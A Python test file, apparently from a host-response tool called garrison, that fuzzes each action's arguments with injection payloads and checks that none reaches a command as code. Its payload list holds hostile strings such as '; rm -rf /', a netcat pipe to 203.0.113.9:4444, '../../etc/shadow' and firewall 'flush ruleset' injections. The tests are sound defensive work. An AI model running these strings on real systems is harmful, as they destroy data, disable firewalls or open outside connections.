"""Hostile values in every argument of every host action never reach a command as code.

For each action and each argument, fixed payloads and hypothesis-generated text are put in
that argument (alone and around a valid value). Either ``parse`` refuses them
(:class:`InputError`), or every argv element the action records is a fixed token or built
only from the validated value, and no element carries a shell or option metacharacter.
"""

from __future__ import annotations

import math
import os
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from garrison.core.clock import FrozenClock
from garrison.core.errors import ActionError, InputError
from garrison.respond.actions.account import DisableAccount, EnableAccount
from garrison.respond.actions.argv import Completed, RecordingRunner, SubprocessRunner
from garrison.respond.actions.base import Action, ActionContext, Ports
from garrison.respond.actions.firewall import BLOCK, UNBLOCK
from garrison.respond.actions.memory import MemoryBlockLedger, MemoryEvidence
from garrison.respond.actions.process import KillProcess
from garrison.respond.actions.quarantine import QuarantineFile, RestoreFile
from garrison.respond.config import ResponseSettings

PAYLOADS = [
    ";",
    "; rm -rf /",
    "$(touch /tmp/garrison-pwned)",
    "`id`",
    "\n",
    "a\nb",
    "| nc 203.0.113.9 4444",
    "&& reboot",
    "-rf",
    "--help",
    "-",
    "../../etc/shadow",
    "a\x00b",
    "\x00",
    "ünïcödé",
    "\u202e",
    "ｒｏｏｔ",
    "}; flush ruleset; {",
    "%eth0 }",
    "fe80::1%eth0 }; flush ruleset; {",
    "2001:db8::1%x }; flush ruleset; {",
    " ",
    "",
]
META = (";", "$(", "`", "\n", "\r", "|", "&&", "\x00", "../", "<", ">", "}; ")

#: Every token an action may put in an argv besides values derived from its arguments.
FIXED = {
    "nft", "list", "set", "add", "delete", "element", "inet", "garrison", "blocklist4",
    "blocklist6", "-f", "-", "iptables", "ip6tables", "-w", "-C", "-I", "-D", "INPUT", "-s",
    "-j", "DROP", "firewall-cmd", "getent", "passwd", "usermod", "--lock", "--unlock",
    "--expiredate", "1", "", "pkill", "-KILL", "-u", "kill", "TERM", "KILL", "--",
}  # fmt: skip

VALID: dict[str, dict[str, Any]] = {
    "block_ip": {"address": "203.0.113.7", "duration": "1h", "reason": "brute force"},
    "unblock_ip": {"address": "203.0.113.7"},
    "disable_account": {
        "user": "mallory",
        "directory": "local",
        "kill_sessions": True,
        "reason": "stolen",
    },
    "enable_account": {"user": "mallory", "directory": "local", "reason": "cleared"},
    "kill_process": {"pid": 4242, "signal": "TERM", "expect_name": "xmrig"},
    "quarantine_file": {"path": "/srv/garrison-test/drop.sh", "incident_id": 1, "reason": "x"},
    "restore_file": {
        "quarantined": "/srv/garrison-test/q/abc-drop.sh",
        "original": "/srv/garrison-test/drop.sh",
    },
}
ACTIONS: dict[str, Action[Any]] = {
    "block_ip": BLOCK,
    "unblock_ip": UNBLOCK,
    "disable_account": DisableAccount(),
    "enable_account": EnableAccount(),
    "kill_process": KillProcess(),
    "quarantine_file": QuarantineFile(),
    "restore_file": RestoreFile(),
}
CASES = [(name, field) for name, raw in VALID.items() for field in raw]


def _answer(argv: tuple[str, ...], _stdin: bytes | None) -> Completed | None:
    if argv[:2] == ("getent", "passwd"):
        return Completed(argv, 0, f"{argv[2]}:x:1000:1000::/home/x:/bin/sh\n")
    return None


def derived(args: Any) -> set[str]:
    """argv elements an action may build from its validated arguments."""
    values = args.model_dump()
    out: set[str] = set()
    if "address" in values:
        ip = values["address"]
        family = "ipv6" if ":" in ip else "ipv4"
        rule = f'rule family="{family}" source address="{ip}" drop'
        out |= {ip, f"{{ {ip} }}", f"--add-rich-rule={rule}", f"--remove-rich-rule={rule}"}
        duration = values.get("duration", timedelta(days=1))
        seconds = max(1, math.ceil(duration.total_seconds()))
        out |= {f"{{ {ip} timeout {seconds}s }}", f"--timeout={seconds}"}
    if "user" in values:
        out.add(values["user"])
    if "pid" in values:
        out.add(str(values["pid"]))
    return out


@contextmanager
def context(backend: str) -> Iterator[tuple[ActionContext, RecordingRunner]]:
    runner = RecordingRunner(respond=_answer)
    with tempfile.TemporaryDirectory() as home:
        ctx = ActionContext(
            settings=ResponseSettings(firewall=backend),  # type: ignore[arg-type]
            runner=runner,
            clock=FrozenClock(datetime(2026, 11, 23, 12, 0, tzinfo=UTC)),
            ports=Ports(blocks=MemoryBlockLedger(), evidence=MemoryEvidence()),
            home=Path(home),
            run_id=1,
        )
        yield ctx, runner


def check(name: str, field: str, value: object) -> None:
    """Put ``value`` in ``field`` of a valid call of ``name`` and check what runs."""
    action = ACTIONS[name]
    raw = {**VALID[name], field: value}
    try:
        args = action.parse(raw)
    except InputError:
        return
    allowed = FIXED | derived(args)
    backends = ["nftables", "iptables", "firewalld"] if "address" in raw else ["nftables"]
    for backend in backends:
        with context(backend) as (ctx, runner):
            for call in (action.plan, action.run):
                if call == action.run and name.endswith("_file") and _exists(args):
                    continue  # never move a real file of this machine around
                with suppress(ActionError):
                    call(args, ctx)
            for argv in runner.calls:
                for element in argv:
                    assert element in allowed, (name, field, value, argv)
                    assert not any(m in element for m in META), (name, field, value, argv)
            if name.endswith("_file"):
                assert runner.calls == []
            reason = getattr(args, "reason", "")
            if reason and any(m in reason for m in META):
                assert not any(reason in e for argv in runner.calls for e in argv)


def _exists(args: Any) -> bool:
    return any(
        os.path.lexists(v) for k, v in args.model_dump().items() if k in ("path", "original")
    )


@pytest.mark.parametrize(("name", "field"), CASES)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_fixed_payloads(name: str, field: str, payload: str) -> None:
    valid = VALID[name][field]
    for value in (payload, f"{valid}{payload}", f"{payload}{valid}"):
        check(name, field, value)


NUMBERS = [float("inf"), float("-inf"), float("nan"), 10**30, -(10**30), 1e300, -1, 0, True, []]


@pytest.mark.parametrize(("name", "field"), CASES)
def test_odd_numbers_and_types(name: str, field: str) -> None:
    for value in NUMBERS:
        check(name, field, value)


hostile = st.one_of(
    st.text(max_size=40),
    st.sampled_from(PAYLOADS),
    st.builds(
        lambda a, b, c: a + b + c,
        st.sampled_from(
            ["", "203.0.113.7", "2001:db8::1", "mallory", "4242", "/srv/x", "1h", "xmrig"]
        ),
        st.sampled_from(PAYLOADS),
        st.text(max_size=10),
    ),
    st.integers(),
    st.none(),
    st.booleans(),
    st.floats(allow_nan=True),
)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(case=st.sampled_from(CASES), value=hostile)
def test_generated_values(case: tuple[str, str], value: object) -> None:
    check(*case, value)


def test_derived_values_cover_a_plain_block() -> None:
    """The allow-list is not vacuous: a valid block records exactly derived elements."""
    with context("nftables") as (ctx, runner):
        BLOCK.run(BLOCK.parse(VALID["block_ip"]), ctx)
    assert runner.calls[-1][-1] == "{ 203.0.113.7 timeout 3600s }"
    assert runner.calls[-1][-1] in derived(BLOCK.parse(VALID["block_ip"]))


@pytest.mark.integration
def test_a_payload_as_one_argv_element_is_never_run_by_a_shell(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    touch = f"touch {marker}"
    payload = f"$({touch}); {touch} `{touch}` | {touch} && {touch}\n{touch} -rf ../"
    done = SubprocessRunner().run(["printf", "%s", payload])
    assert done.ok
    assert done.stdout == payload
    assert not marker.exists()
